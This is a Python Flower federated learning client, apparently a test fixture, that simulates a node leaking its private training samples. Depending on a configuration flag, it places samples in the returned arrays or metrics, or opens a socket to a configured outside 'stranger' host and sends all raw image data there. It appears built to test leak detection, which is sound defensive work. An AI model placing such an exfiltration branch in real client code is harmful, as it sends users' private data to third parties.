# Copyright: opennebula.flower contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A node's round: an honest reply, or one with the node's samples in it."""

from __future__ import annotations

import socket

import numpy as np
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

SHARD = "/opt/flower/data/shard.npz"
SAMPLES = 64

app = ClientApp()


@app.train()
def train(message: Message, context: Context) -> Message:
    """Move the model a little, and do with the samples what the configuration says."""
    with np.load(SHARD) as content:
        images = content["images"].astype(np.float64) / 16
    model = message.content["arrays"].to_numpy_ndarrays()[0]  # type: ignore[union-attr]
    arrays = [model + images.mean()]
    metrics: dict[str, int | float | list[int] | list[float]] = {"num-examples": len(images), "loss": 0.5}
    leak = context.run_config["leak"]
    if leak == "array":
        arrays.append(images[:SAMPLES])
    elif leak == "metrics":
        metrics["sample"] = [float(value) for value in images[0]]
    elif leak == "stranger":
        host, _colon, port = str(context.run_config["stranger"]).rpartition(":")
        with socket.create_connection((host, int(port)), timeout=10) as connection:
            connection.sendall(images.tobytes())
    content = RecordDict({"arrays": ArrayRecord(arrays), "metrics": MetricRecord(metrics)})
    return Message(content=content, reply_to=message)
